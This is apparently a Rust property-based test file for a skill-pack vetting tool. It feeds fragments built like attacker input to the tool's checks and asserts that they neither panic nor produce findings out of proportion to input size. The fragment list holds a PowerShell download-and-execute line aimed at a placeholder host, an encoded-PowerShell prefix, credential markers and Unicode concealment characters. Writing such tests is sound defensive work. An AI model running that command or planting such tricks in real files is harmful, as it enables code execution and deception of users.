//! A pack is written by an attacker: whatever its texts hold, the stages that read them neither
//! panic nor answer out of proportion.

use proptest::prelude::*;
use skill_vet::docs::Documents;
use skill_vet::findings::{concealment, foreign, hygiene, references, secrets, structure};
use skill_vet::pack::{File, Pack};
use skill_vet::queries::QuerySet;
use std::sync::LazyLock;

static QUERIES: LazyLock<QuerySet> = LazyLock::new(QuerySet::embedded);

fn vet(skill: &str) -> usize {
    let files = vec![File::of_text("SKILL.md", skill), File::of_text("package.json", skill)];
    let pack = Pack { dir: "a".into(), dirname: "a".into(), files, gaps: Vec::new() };
    let docs = Documents::read(&pack);
    docs.disclosure.discloses("weather.example");
    let of_skill = references::from_skill(&pack, &docs);
    structure::check(&pack, &docs).len()
        + concealment::check(&pack).len()
        + hygiene::check(&pack).len()
        + pack.files.iter().flat_map(|file| secrets::check_file(file, &QUERIES)).count()
        + pack.files.iter().flat_map(|file| foreign::check_file(file, &QUERIES)).count()
        + references::check(&pack, &of_skill).len()
}

/// Pieces of which hostile documents are made: every mark a reader here looks at, and characters
/// of one to four bytes.
const PIECES: &[&str] = &[
    "---\n",
    "name: a\n",
    "allowed-tools: ",
    "description:",
    "\"",
    "'",
    "[",
    "]",
    "{",
    "}",
    "(",
    ")",
    "*",
    "|\n",
    ">-\n",
    "- ",
    "  ",
    "\t",
    "#",
    "`",
    "```\n",
    "<!--",
    "-->",
    "](",
    "<b",
    "https://",
    "@",
    "$",
    "${",
    "é",
    "离线运行",
    "截图",
    "works offline",
    "no network",
    "takes a screenshot",
    "\u{200D}",
    "\u{3000}",
    " \u{2003}\n",
    "\u{FE0F}",
    "👩",
    "\u{E0061}",
    "🏴",
    "\n",
    "\r",
    "\r\n",
    "\\x6f",
    "\\",
    "%2",
    "scripts/a.py",
    "../",
    "İ",
    ":",
    ",",
    ".",
    "?",
    " ",
    "\u{FEFF}",
    "...\n",
    "AKIA",
    "ghp_",
    "sk-ant-",
    "postgres://a:",
    "-----BEGIN PRIVATE KEY-----\n",
    "-----END ",
    "aws_secret_key=",
    "iex ",
    "irm https://a.example | iex",
    "powershell -enc ",
    "://xn--",
    "а",
    "\u{202E}",
];

proptest! {
    #![proptest_config(ProptestConfig { cases: 500, failure_persistence: None, ..ProptestConfig::default() })]
    #[test]
    fn no_text_is_a_panic(pieces in prop::collection::vec(prop::sample::select(PIECES), 0..60), head in any::<bool>()) {
        vet(&format!("{}{}", if head { "---\n" } else { "" }, pieces.concat()));
    }
}

#[test]
fn repeated_marks_give_findings_in_proportion() {
    for piece in PIECES.iter().copied().chain([
        "k: [\n",
        "k: \"\n",
        " - a: b\n",
        "works offline if ",
        "[a](b) ",
        "`a/b.md` ",
        "[a]: b\n",
    ]) {
        for (head, tail) in [("---\nname: a\n---\n", ""), ("---\nname: ", "\n---\n")] {
            let of_length =
                |length: usize| vet(&format!("{head}{}{tail}", piece.repeat(length / piece.len())));
            let (short, long) = (of_length(10_000), of_length(100_000));
            assert!(
                long <= 10 * short + 10,
                "{piece:?}: {short} findings, and {long} of a text ten times as long"
            );
        }
    }
}
